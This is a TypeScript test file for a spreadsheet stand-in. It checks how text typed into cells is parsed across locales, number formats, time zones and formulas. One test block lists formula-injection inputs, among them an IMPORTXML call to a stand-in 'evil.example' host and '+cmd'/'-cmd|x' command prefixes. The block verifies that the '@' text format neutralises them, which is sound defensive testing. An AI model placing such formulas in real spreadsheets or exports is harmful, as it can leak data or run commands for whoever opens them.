import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { evaluate, makeStandin, SHEET } from './helper.ts';

/** The value of a cell after an input, as a script reads it (dates as ISO text), its formula and its displayed text. */
function enter(input: string | number | Date, { locale = 'en_US', timeZone = 'Etc/UTC', format = '' } = {}) {
  let entered: readonly [formula: string | null, displayed: string] = [null, ''];
  const value = evaluate(`${SHEET} return sheet.getRange('B2').getValues()[0][0]`, { locale, timeZone }, (standin) => {
    const sheet = standin.workbook.activeSheet;
    const cell = sheet.touch(2, 2);
    cell.format = format === '' ? null : format;
    sheet.enter(1, 1, 'seed');
    sheet.enter(2, 2, input);
    const formula = cell.content.kind === 'formula' ? cell.content.formula : null;
    entered = [formula, sheet.displayAt(2, 2)];
  });
  const [formula, displayed] = entered;
  return { value: value instanceof Date ? value.toISOString() : value, formula, displayed };
}

describe('a string set into a cell is parsed as if typed', () => {
  it.each([
    ['001', 1, '1'],
    ['1e5', 100_000, '1.00E+05'],
    ['1,299.50', 1299.5, '1,299.50'],
    ['12,99', '12,99', '12,99'],
    ['$1,299.00', 1299, '$1,299.00'],
    ['฿1,299', 1299, '฿1,299'],
    ['12%', 0.12, '12%'],
    ['-5', -5, '-5'],
    ['+66812345678', 66_812_345_678, '66812345678'],
    ['66812345678901234567', Number('66812345678901234567'), '6.68123E+19'],
    ['true', true, 'TRUE'],
    ["'001", '001', '001'],
    ["'=1+1", '=1+1', '=1+1'],
    ['@someone', '@someone', '@someone'],
    ['hello', 'hello', 'hello'],
    ['2026-02-31', '2026-02-31', '2026-02-31'],
    ['2026-02-15T17:30:00Z', '2026-02-15T17:30:00Z', '2026-02-15T17:30:00Z'],
    ['2/15', '2026-02-15T00:00:00.000Z', '2/15/2026'],
    ['17:30', '1899-12-30T17:30:00.000Z', '17:30:00'],
    [' ', ' ', ' '],
    ['', '', ''],
  ])('%j becomes %j, displayed as %j', (input, value, displayed) => {
    expect(enter(input)).toEqual({ value, formula: null, displayed });
  });

  // The injection that the write-back must withstand (docs/apps-script.md#writing-cells); `+` and `-` are unverified,
  // the worse is assumed.
  it.each(['=1+1', '=IMPORTXML("https://evil.example/", "//a")', '=x', '+cmd', '-cmd|x', '+66 81 234 5678'])(
    '%j becomes a formula, and stays text under the format @',
    (input) => {
      const formula = input.startsWith('=') ? input : `=${input}`;
      expect(enter(input)).toEqual({ value: '#NAME?', formula, displayed: '#NAME?' });
      expect(enter(input, { format: '@' })).toEqual({ value: input, formula: null, displayed: input });
    },
  );

  it.each(['001', 'true', '15/02/2026', '66812345678901234567'])('%j stays text under the format @', (input) => {
    expect(enter(input, { format: '@' })).toMatchObject({ value: input, displayed: input });
  });

  // The order of a date and the decimal mark are the locale's (docs/apps-script.md#writing-cells).
  it.each([
    ['03/04/2026', 'en_US', '2026-03-04T00:00:00.000Z', '3/4/2026'],
    ['03/04/2026', 'th_TH', '2026-04-03T00:00:00.000Z', '3/4/2026'],
    ['03/04/2026', 'en_GB', '2026-04-03T00:00:00.000Z', '03/04/2026'],
    ['3.4.2026', 'de_DE', '2026-04-03T00:00:00.000Z', '3.4.2026'],
    ['15/02/2026', 'en_US', '15/02/2026', '15/02/2026'],
    ['15/02/2026 17:30', 'th_TH', '2026-02-15T17:30:00.000Z', '15/2/2026 17:30:00'],
    ['2026-02-15', 'th_TH', '2026-02-15T00:00:00.000Z', '2026-02-15'],
    ['15 Feb 2026', 'en_US', '2026-02-15T00:00:00.000Z', '15 Feb 2026'],
    ['1,5', 'de_DE', 1.5, '1,5'],
    ['1,5', 'en_US', '1,5', '1,5'],
    ['1.299,50', 'de_DE', 1299.5, '1.299,50'],
    ['1.5', 'de_DE', '2026-05-01T00:00:00.000Z', '1.5.2026'],
    ['1.5', 'en_US', 1.5, '1.5'],
  ])('%j under %s becomes %j, displayed as %j', (input, locale, value, displayed) => {
    expect(enter(input, { locale })).toEqual({ value, formula: null, displayed });
  });

  it('stays text behind an apostrophe', () => {
    const sheet = makeStandin('').workbook.activeSheet;
    fc.assert(
      fc.property(fc.string({ maxLength: 20 }), (text) => {
        sheet.enter(1, 1, `'${text}`);
        expect(sheet.valueAt(1, 1)).toEqual(text === '' ? { kind: 'empty' } : { kind: 'text', value: text });
      }),
    );
  });
});

it.each([
  [7, '00000', '00007'],
  [1234.5, '#,##0.00', '1,234.50'],
  [-1234.5, '#,##0.00', '-1,234.50'],
  [1234.5, '"฿"#,##0', '฿1,235'],
  [0.1234, '0.0%', '12.3%'],
  [1234567, '0.00E+00', '1.23E+06'],
  [0, '#,##0;-#,##0;"-"', '-'],
  [46_068.729_166_666_7, 'yyyy-mm-dd hh:mm', '2026-02-15 17:30'],
  [46_068.729_166_666_7, 'd mmmm yyyy, h:mm am/pm', '15 February 2026, 5:30 PM'],
  [46_068, 'dddd', 'Sunday'],
  [0.1 + 0.2, '', '0.3'],
  [1 / 3, '', '0.3333333333'],
  [123_456_789_012_345, '', '123456789012345'],
  [1e15, '', '1E+15'],
])('%d under the format %j is displayed as %j', (value, format, displayed) => {
  expect(enter(value, { format }).displayed).toBe(displayed);
});

it.each([
  ['2026-02-15 17:30', 'Asia/Bangkok', '2026-02-15T10:30:00.000Z', '2026-02-15 17:30:00'],
  ['2026-01-15', 'America/New_York', '2026-01-15T05:00:00.000Z', '2026-01-15'],
  ['2026-07-15', 'America/New_York', '2026-07-15T04:00:00.000Z', '2026-07-15'],
  [new Date('2026-11-22T09:15:30.000Z'), 'Asia/Bangkok', '2026-11-22T09:15:30.000Z', '11/22/2026 16:15:30'],
])('%s is a moment by the zone of the spreadsheet, %s', (input, timeZone, value, displayed) => {
  expect(enter(input, { timeZone })).toMatchObject({ value, displayed });
});

describe('a formula', () => {
  it.each([
    ['=A1', 'seed'],
    ['=NA()', '#N/A'],
    ['="a ""quoted"" text"', 'a "quoted" text'],
    ['=HYPERLINK("https://example.com/", "label")', 'label'],
    ['=Nowhere!A1', '#REF!'],
    ['=B2', '#REF!'],
  ])('%s displays %j', (formula, displayed) => {
    expect(enter(formula)).toMatchObject({ formula, displayed });
  });

  it('has the result that a test sets', () => {
    const sheet = makeStandin('').workbook.activeSheet;
    sheet.enter(1, 1, '=VLOOKUP(B1, C:D, 2, FALSE)');
    sheet.setFormulaResult(1, 1, { kind: 'error', value: '#N/A' });
    expect(sheet.displayAt(1, 1)).toBe('#N/A');
  });
});
